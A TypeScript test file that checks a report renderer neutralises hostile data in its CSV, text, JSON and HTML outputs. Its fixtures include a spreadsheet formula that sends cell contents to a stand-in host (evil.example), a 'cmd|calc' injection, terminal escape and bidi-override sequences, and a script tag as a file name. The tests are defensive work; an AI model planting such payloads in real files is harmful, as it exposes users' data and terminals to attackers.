// Data that would attack the reader of an output: a formula in a CSV cell (`=HYPERLINK(…)` run by a
// spreadsheet), escape sequences in the text (a terminal obeys them), script in the HTML (its CSP forbids it).
import { SEED_DATASET } from '@khuyencong/domain';
import { describe, expect, it } from 'vitest';
import { createReportBuilder } from '../src/build/createReportBuilder';
import { datasetRecords } from '../src/import/json/datasetRecords';
import { renderFindings, renderReport } from '../src/index';
import { csvCell } from '../src/render/csv/csvCell';
import { parseCsv } from './parseCsv';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"bấm")';
const ESCAPES = '\u001b[31mĐỎ\u001b[0m\u001b]0;pwned\u0007\u202e';

/** The seed dataset with every đề án's id and the file name carrying `id`. */
function hostileResult(id: (original: string) => string, source: string) {
  const dataset = {
    ...SEED_DATASET,
    projects: SEED_DATASET.projects.map((project) => ({ ...project, id: id(project.id) })),
  };
  const builder = createReportBuilder({ asOf: '2024-10-01' });
  for (const record of datasetRecords(dataset, source)) builder.add(record);
  return builder.build();
}

describe('csvCell: the OWASP rule, negative numbers kept', () => {
  it('prefixes a cell starting with = + - @ tab or CR with a quote, quoting as RFC 4180 asks', () => {
    expect(csvCell(FORMULA)).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""bấm"")"`);
    expect(csvCell('+1+2')).toBe("'+1+2");
    expect(csvCell('-2+3+cmd|calc')).toBe("'-2+3+cmd|calc");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('-')).toBe("'-");
  });

  it('a CR first is removed with the other controls, then the formula behind it is neutralised', () => {
    expect(csvCell('\r=1+1')).toBe("'=1+1");
    expect(csvCell('DA\u001b[31m-01')).toBe('DA-01');
  });

  it('keeps plain numbers, negative ones too, and ordinary text', () => {
    expect(csvCell('-1500000')).toBe('-1500000');
    expect(csvCell('-12,5')).toBe('"-12,5"');
    expect(csvCell('-93.51')).toBe('-93.51');
    expect(csvCell('73500000000')).toBe('73500000000');
    expect(csvCell('DA-2024-01')).toBe('DA-2024-01');
    expect(csvCell('# Kế hoạch')).toBe('# Kế hoạch');
  });
});

describe('the CSV report', () => {
  it('neutralises a formula in a đề án id and in a file name', () => {
    const result = hostileResult((id) => `${FORMULA}${id}`, `${FORMULA}.csv`);
    const csv = renderReport(result, { format: 'csv' });
    const cells = parseCsv(csv.slice(1)).flat();
    expect(cells).toContain(`'${FORMULA}.csv`);
    expect(cells.some((cell) => cell.startsWith(`'${FORMULA}seed-`))).toBe(true);
    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d)/.test(cell))).toEqual([]);
  });
});

describe('the text outputs', () => {
  it('remove escape sequences and bidi overrides of ids and file names, the columns aligned', () => {
    const result = hostileResult((id) => `${id}${ESCAPES}`, `de-an${ESCAPES}.csv`);
    const text = renderReport(result, { format: 'text' });
    expect(text).toContain('de-anĐỎ.csv');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
    expect(text).not.toMatch(/[\u001b\u0007\u202e]/);
    const findings = renderFindings(result, { format: 'text' });
    expect(findings).toContain('de-anĐỎ.csv');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
    expect(findings).not.toMatch(/[\u001b\u0007\u202e]/);
    // JSON keeps the data exactly, every control escaped (\u001b by JSON itself, U+202E by jsonText).
    const json = renderFindings(result, { format: 'json' });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
    expect(json).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(json).toContain('\\u202e');
    expect(
      JSON.parse(json).findings.some((f: { source: string }) => f.source === `de-an${ESCAPES}.csv`),
    ).toBe(true);
  });
});

describe('the HTML report', () => {
  it('starts its head with the strict CSP and has no script', () => {
    const html = renderReport(
      hostileResult((id) => id, '<script>alert(1)</script>.csv'),
      {
        format: 'html',
      },
    );
    expect(html.split('\n').slice(2, 4)).toEqual([
      '<head>',
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
    ]);
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;.csv');
  });

  it('leaves out the escape sequences and bidi overrides of ids and file names (the page is printed too)', () => {
    const html = renderReport(
      hostileResult((id) => `${id}${ESCAPES}`, `de-an${ESCAPES}.csv`),
      {
        format: 'html',
      },
    );
    expect(html).toContain('de-anĐỎ.csv');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
    expect(html).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  });
});
